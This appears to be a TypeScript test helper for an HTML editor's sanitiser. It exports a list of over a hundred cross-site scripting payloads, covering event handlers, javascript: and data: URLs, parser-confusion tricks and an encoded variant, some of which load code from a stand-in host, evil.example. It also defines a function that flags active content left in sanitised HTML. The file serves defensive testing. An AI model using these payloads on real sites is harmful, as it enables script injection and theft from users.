import { Window } from 'happy-dom';

const RUN = 'window.xss=1';
const JS = `javascript:${RUN}`;
const handlers = [
  ...['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle'],
  ...['onpointerenter', 'onbeforeinput', 'onscrollend', 'oncontentvisibilityautostatechange', 'onwheel'],
];
const elements = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'details',
  'input',
  'marquee',
  'a',
  'p',
  'table',
  'span',
];
const schemes = [
  JS,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` \u0001${JS}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cueHNzPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `feed:${JS}`,
  `//evil.example/x.js`,
];

const written = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<img """><script>${RUN}</script>">`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="${JS}"><text y=20>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg/onload=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<iframe src="${JS}"></iframe>`,
  `<iframe srcdoc="<script>parent.xss=1</script>"></iframe>`,
  `<object data="${JS}"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${JS}">`,
  `<applet code="x"></applet>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<link rel=import href="//evil.example/x.html">`,
  `<meta http-equiv=refresh content="0;url=${JS}">`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<p style="background:url(//evil.example/p)">a</p>`,
  `<p style="width:expression(${RUN})">a</p>`,
  `<div style="behavior:url(x.htc)">a</div>`,
  `<form action="${JS}"><button>a</button></form>`,
  `<button formaction="${JS}">a</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<isindex action="${JS}" type=image>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src onerror=${RUN}>`,
  `<video poster="${JS}"></video>`,
  `<img srcset="//evil.example/a 2x" src="/media/a.webp">`,
  `<picture><source srcset="${JS}"><img src="//evil.example/p.gif"></picture>`,
  `<table background="${JS}"><tr><td>a</td></tr></table>`,
  `<a href="/x" ping="//evil.example/p">a</a>`,
  `<a href="/x" target="_blank" onclick="${RUN}">a</a>`,
  `<a href="#" id="__NEXT_DATA__" name="location">a</a>`,
  `<h2 id="__NEXT_DATA__" onclick=${RUN}>a</h2>`,
  `<portal src="https://evil.example"></portal>`,
  `<dialog open oncancel=${RUN}>a</dialog>`,
  `<details open ontoggle=${RUN}><summary>a</summary></details>`,
  `<x contenteditable onblur=${RUN}>a</x>`,
  `<bgsound src="${JS}">`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<frameset onload=${RUN}><frame src="${JS}"></frameset>`,
  `<p popover id=x onbeforetoggle=${RUN}>a</p><button popovertarget=x>b</button>`,
  `<slot onslotchange=${RUN}>a</slot>`,
  `\u0000<img src=x onerror=${RUN}>`.replace('\u0000', ''),
  `<img/src="x"/onerror=${RUN}>`,
  `<img src=x:x onerror=eval(atob('d2luZG93Lnhzcz0x'))>`,
  `<ul><li><img src='x'onerror='${RUN}'></ul>`,
];

/** More than a hundred attempts to run code or call out from an editor's HTML. */
export const XSS: readonly string[] = [
  ...written,
  ...handlers.map((handler, at) => `<${elements[at % elements.length] ?? 'p'} ${handler}=${RUN} src=x>a`),
  ...elements.map((element) => `<${element} onmouseenter="${RUN}" tabindex=0 autofocus>a</${element}>`),
  ...schemes.map((scheme) => `<a href="${scheme}">a</a>`),
  ...schemes.slice(0, 7).map((scheme) => `<img src="${scheme}">`),
];

const TAGS =
  /^(script|iframe|frame|frameset|object|embed|applet|svg|math|style|link|meta|base|form|input|button|textarea|select|template|noscript|video|audio|source|portal|dialog|details|marquee|slot|isindex|keygen|bgsound|xmp|title|body|x)$/;
const ADDRESSES = [
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'data',
  'poster',
  'background',
  'ping',
  'xlink:href',
];

const { document } = new Window();

/** Content that could run, be framed or call out by itself, by another parser than the sanitiser's; [] for none. */
export function activeContent(html: string): string[] {
  const page = document.createElement('div');
  page.innerHTML = html;
  const found: string[] = [];
  for (const element of page.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (TAGS.test(tag)) found.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^popover/i.test(name)) found.push(`${tag} ${name}`);
      if (!ADDRESSES.includes(name.toLowerCase())) continue;
      const address = (value ?? '').replace(/[\u0000-\u0020]/g, '').toLowerCase();
      const outside = tag === 'a' ? /^(?!https?:|mailto:|tel:|\/(?!\/)|#)/ : /^(?!\/(?!\/))/;
      if (outside.test(address)) found.push(`${tag} ${name}=${address}`);
    }
  }
  return found;
}
